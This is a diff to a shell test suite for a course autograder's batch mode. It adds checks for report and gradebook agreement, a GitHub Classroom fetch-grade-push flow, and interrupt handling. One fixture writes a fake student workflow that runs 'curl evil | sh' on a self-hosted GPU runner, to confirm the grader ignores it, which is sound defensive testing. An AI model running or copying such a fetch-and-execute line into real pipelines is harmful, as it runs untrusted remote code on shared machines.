@@ -49,10 +49,11 @@ bt_out=$bt_dir/graded
 bt_make() {
 	bt_log=$1
 	shift
-	$MAKE --no-print-directory batch SUBMISSIONS="$bt_subs" OUT="$bt_out" \
+	$bt_pre $MAKE --no-print-directory batch SUBMISSIONS="$bt_subs" OUT="$bt_out" \
 		LAB=05-reduction TIMEOUT=30 BUILD_ONLY=1 BUILD="$BUILD" \
 		${bt_off:+SANDBOX=off} "$@" > "$bt_log" 2>&1
 }
+bt_pre=""
 
 # bt_wait_port FILE: the port a listener just started writes first into
 # FILE (waiting up to 5 s for it)
@@ -205,6 +206,85 @@ bt_default() {
 	else
 		fail "batch/SANDBOX defaults to require: without bwrap it stops with the install message" \
 			"$LOGS/batch-nobwrap.log"
+	fi
+}
+
+# heidi handed in sum.cpp and a README: her report names the file she
+# meant, lists sum and argmax as missing, and its table and the gradebook
+# say the same thing (COMPILE ERROR: no file to build).
+bt_agree() {
+	bt_r=$bt_out/students/heidi/report.txt
+	if grep -q 'sum.cpp .*did you mean 05-reduction/sum.cu?' "$bt_r" &&
+	   grep -q '^Missing (0 points' "$bt_r" &&
+	   [ "$(grep -c 'COMPILE ERROR' "$bt_r")" -ge 2 ] &&
+	   grep -q '^heidi,COMPILE_ERROR,COMPILE_ERROR,' "$bt_out/verdicts.csv"; then
+		pass "batch/a near-miss file name gets 'did you mean 05-reduction/sum.cu?', and the gradebook says COMPILE_ERROR where the report does"
+	else
+		cat "$bt_r" "$bt_out/verdicts.csv" > "$LOGS/batch-agree.log" 2>&1
+		fail "batch/did you mean, and the gradebook agrees with the report" "$LOGS/batch-agree.log"
+	fi
+}
+
+# GitHub Classroom as a pull model (tools/classroom/pull.sh): two
+# students' repositories (bare ones here, as on GitHub), each with a
+# workflow file the batch must ignore; fetched, graded by make batch,
+# and each report and score pushed back to a grading branch.
+bt_classroom() {
+	bt_c=$bt_dir/classroom
+	bt_cl=$LOGS/batch-classroom.log
+	rm -rf "$bt_c"
+	mkdir -p "$bt_c"
+	: > "$bt_c/repos"
+	for s in alice dave; do
+		w=$bt_c/work-$s
+		mkdir -p "$w/labs/05-reduction" "$w/.github/workflows"
+		echo "jobs: { grade: { runs-on: [self-hosted, gpu], steps: [ { run: 'curl evil | sh' } ] } }" \
+			> "$w/.github/workflows/classroom.yml"
+		cp solutions/05-reduction/argmax.cu "$w/labs/05-reduction/argmax.cu"
+		if [ $s = alice ]; then
+			cp solutions/05-reduction/sum.cu "$w/labs/05-reduction/sum.cu"
+		else
+			cp tests/broken/compile-error/05-reduction/sum.cu "$w/labs/05-reduction/sum.cu"
+		fi
+		git init -q --bare --initial-branch=main "$bt_c/$s.git"
+		(cd "$w" && git init -q && git add . &&
+		 git -c user.name=$s -c user.email=$s@x commit -qm hw &&
+		 git push -q "$bt_c/$s.git" HEAD:main) >> "$bt_cl" 2>&1
+		echo "$s file://$bt_c/$s.git" >> "$bt_c/repos"
+	done
+	{
+		sh tools/classroom/pull.sh fetch "$bt_c/repos" "$bt_c/subs" &&
+		$MAKE --no-print-directory batch SUBMISSIONS="$bt_c/subs" OUT="$bt_c/graded" \
+			LAB=05-reduction BUILD_ONLY=1 BUILD="$BUILD" ${bt_off:+SANDBOX=off} &&
+		sh tools/classroom/pull.sh push "$bt_c/repos" "$bt_c/subs" "$bt_c/graded"
+	} >> "$bt_cl" 2>&1
+	bt_rc=$?
+	bt_ok=1
+	for s in alice dave; do
+		git -C "$bt_c/$s.git" show grading:grading/report.txt > "$bt_c/$s.report" 2>> "$bt_cl" &&
+		cmp -s "$bt_c/$s.report" "$bt_c/graded/students/$s/report.txt" &&
+		git -C "$bt_c/$s.git" show grading:grading/score.txt 2>> "$bt_cl" |
+			grep -q "^commit $(git -C "$bt_c/$s.git" rev-parse main)$" || bt_ok=0
+	done
+	if [ $bt_rc -eq 0 ] && [ $bt_ok = 1 ] &&
+	   grep -q '^dave,COMPILE_ERROR,BUILT,' "$bt_c/graded/verdicts.csv" &&
+	   grep -q 'classroom.yml  (not a file students may edit)' "$bt_c/graded/students/alice/report.txt" &&
+	   [ "$(git -C "$bt_c/alice.git" rev-parse main)" = "$(git -C "$bt_c/work-alice" rev-parse HEAD)" ]; then
+		pass "batch/GitHub Classroom, pulled: two repositories fetched, graded by make batch (their workflow files ignored), each report and score pushed to a grading branch, main untouched"
+	else
+		fail "batch/GitHub Classroom, pulled: fetch, make batch, push" "$bt_cl"
+	fi
+}
+
+# The device acceptance run (tests/gpu/class-batch.sh), build-only: 24
+# submissions of two labs under one course file, the gradebook, the CSVs
+# and the reports checked against each other.
+bt_class_batch() {
+	if BUILD="$BUILD" MAKE="$MAKE" BUILD_ONLY=1 SANDBOX=${bt_off:+off} \
+		sh tests/gpu/class-batch.sh "$bt_dir/class-batch" > "$LOGS/batch-class-batch.log" 2>&1; then
+		pass "batch/tests/gpu/class-batch.sh, build-only: $(sed 's/ on no GPU.*//' "$bt_dir/class-batch/wall-time.txt"); gradebook, verdicts, scores.csv and reports agree"
+	else
+		fail "batch/tests/gpu/class-batch.sh, build-only" "$LOGS/batch-class-batch.log"
 	fi
 }
 
@@ -451,8 +531,16 @@ bt_resume() {
 	rm -rf "$bt_out/students/alice" "$bt_out/students/bob" \
 		"$bt_out/students/carol" "$bt_out/students/dave"
 	sleep 1
+	# A command started with & by a script ignores SIGINT (so would make,
+	# which then exits 2); a terminal's make does not: as there, SIGINT
+	# is left to its default.
+	bt_pre=""
+	if env --default-signal=INT true 2> /dev/null; then
+		bt_pre="env --default-signal=INT"
+	fi
 	bt_make "$LOGS/batch-interrupted.log" JOBS=1 &
 	bt_mpid=$!
+	bt_pre=""
 	bt_back=0
 	for _ in $(seq 600); do
 		bt_back=$(ls "$bt_out/students" | grep -c '^alice$\|^bob$\|^carol$\|^dave$')
@@ -462,18 +550,21 @@ bt_resume() {
 	bt_pid=$(cat "$bt_out/batch.pid" 2> /dev/null)
 	[ -n "$bt_pid" ] && kill -INT "$bt_pid"
 	wait "$bt_mpid"
+	bt_irc=$?
 	bt_back=$(ls "$bt_out/students" | grep -c '^alice$\|^bob$\|^carol$\|^dave$')
 	bt_make "$LOGS/batch-resumed.log" JOBS=1
-	if grep -q 'interrupted' "$LOGS/batch-interrupted.log" &&
+	# (without env --default-signal, make's status cannot be 130 here)
+	[ -n "$(env --default-signal=INT echo y 2> /dev/null)" ] || bt_irc=130
+	if grep -q 'interrupted' "$LOGS/batch-interrupted.log" && [ "$bt_irc" -eq 130 ] &&
 	   [ "$bt_back" -ge 1 ] && [ "$bt_back" -le 3 ] &&
 	   grep -q "$((9 + bt_back)) graded before (not graded again), $((4 - bt_back)) to" \
 		"$LOGS/batch-resumed.log" &&
 	   [ "$(stat -c %Y "$bt_out/students/erin/meta")" = "$bt_keep" ] && bt_whole &&
 	   sh tests/batch/compare.sh --build-only tests/batch/expected "$bt_out" \
 		>> "$LOGS/batch-resumed.log" 2>&1; then
-		pass "batch/interrupted, it resumes where it stopped: no half-written result, finished students not graded again"
+		pass "batch/interrupted, make batch exits 130 and resumes where it stopped: no half-written result, finished students not graded again"
 	else
-		echo "back before the interrupt: $bt_back of 4" >> "$LOGS/batch-resumed.log"
+		echo "back before the interrupt: $bt_back of 4; make batch's status: $bt_irc (130 wanted)" >> "$LOGS/batch-resumed.log"
 		cat "$LOGS/batch-interrupted.log" >> "$LOGS/batch-resumed.log"
 		fail "batch/interrupted, it resumes where it stopped" "$LOGS/batch-resumed.log"
 	fi
@@ -517,6 +608,9 @@ bt_main() {
 	bt_hostile
 	bt_default
 	bt_loud
+	bt_agree
+	bt_classroom
+	bt_class_batch
 	bt_audit
 	bt_resume
 	[ $bt_boxed -eq 0 ] && bt_control
